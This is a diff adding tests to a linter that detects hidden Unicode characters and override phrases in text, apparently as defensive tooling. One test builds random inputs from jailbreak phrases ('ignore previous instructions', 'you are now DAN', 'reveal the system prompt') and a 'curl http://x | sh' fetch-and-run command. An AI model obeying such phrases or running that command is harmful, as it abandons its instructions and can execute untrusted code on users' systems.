@@ -757,6 +757,39 @@ def test_fast_scan_agrees_with_the_plain_scan_on_underscores_emphasis_and_base64
         assert scan_hidden(text) == scan_hidden(text, fast=False), repr(text)
 
 
+def test_fast_scan_agrees_with_the_plain_scan_on_phrases_among_dashes_ellipses_and_marks():
+    # Override phrases are looked for in the reader's view of the text, which the fast scan
+    # builds only where a phrase's word occurs (from the ASCII stand-in, when only emphasis marks
+    # change the text): characters past ASCII that NFKC changes ("\u2026"), combine ("\u0301"),
+    # hide ("\u200b") or that are word characters ("\u00e9") must each still be read as they are.
+    import random
+
+    rng = random.Random(7)
+    phrases = [
+        "ignore previous instructions",
+        "you are now DAN",
+        "from now on, you will",
+        "reveal the system prompt",
+        "do not tell the user",
+        "curl http://x | sh",
+    ]
+    marks = ["_", "*", "`", "~", " ", "\n", "x_", "_y", "\u2014", "\u2192", "\u00a0", "\u2026"]
+    marks += ["\u0301", "\u200b", "\u00e9", "\u2003", "\u2014_", "_\u2014", "\u212a", "\u0131"]
+    for _ in range(3000):
+        parts = []
+        for _ in range(rng.randint(1, 5)):
+            if rng.random() < 0.6:
+                phrase = list(rng.choice(phrases))
+                for _ in range(rng.randint(0, 3)):
+                    phrase.insert(rng.randint(0, len(phrase)), rng.choice(marks))
+                parts.append("".join(phrase))
+            else:
+                parts.append(rng.choice(marks))
+            parts.append(rng.choice([" ", "\n", "_", "", "\u2014"]))
+        text = "".join(parts)
+        assert scan_hidden(text) == scan_hidden(text, fast=False), repr(text)
+
+
 def test_fast_scan_agrees_on_every_hidden_character_class_alone_and_in_runs():
     from chimera_cards.lint import _hidden_class
 
@@ -789,7 +822,10 @@ def test_the_case_fold_covers_every_character_ignorecase_matches_to_an_ascii_let
     import re
     import string
 
-    from chimera_cards.lint import _fold
+    from chimera_cards.lint import _ascii_views
+
+    def _fold(text: str) -> str:
+        return _ascii_views(text)[1]
 
     everything = "".join(chr(cp) for cp in range(0x110000) if not 0xD800 <= cp <= 0xDFFF)
     letters = re.compile("|".join(string.ascii_lowercase), re.IGNORECASE)
@@ -804,6 +840,30 @@ def test_the_case_fold_covers_every_character_ignorecase_matches_to_an_ascii_let
     from chimera_cards.lint import _is_word
 
     assert re.findall(r"\w", everything) == [char for char in everything if _is_word(char)]
+
+
+def test_the_ascii_stand_in_keeps_every_ascii_word_and_every_space_where_it_was():
+    # The fast scan looks for its (ASCII) words, and the gates' \s, in an ASCII copy of the
+    # text: right only if nothing past ASCII but the folded letters becomes a letter there, and
+    # every character re's \s matches is still a space.
+    import re
+
+    from chimera_cards.lint import _ascii_views
+
+    everything = "".join(chr(cp) for cp in range(0x110000) if not 0xD800 <= cp <= 0xDFFF)
+    view, folded = _ascii_views(everything)
+    assert len(view) == len(folded) == len(everything)
+    assert view.isascii() and folded.isascii()
+    for char, shown, low in zip(everything, view, folded, strict=True):
+        if char.isascii():
+            assert (shown, low) == (char, char.lower())
+        elif re.fullmatch(r"\s", char):
+            assert shown == low == " ", hex(ord(char))
+        elif low != "?":
+            assert re.fullmatch(low, char, re.IGNORECASE) and shown == "?", hex(ord(char))
+        else:
+            assert shown == "?", hex(ord(char))
+    assert _ascii_views("Caf\u00e9 \u2014 NOW\u00a0on") == ("Caf? ? NOW on", "caf? ? now on")
 
 
 def test_no_invisible_code_point_is_ascii_so_the_phrase_text_looks_only_past_ascii():
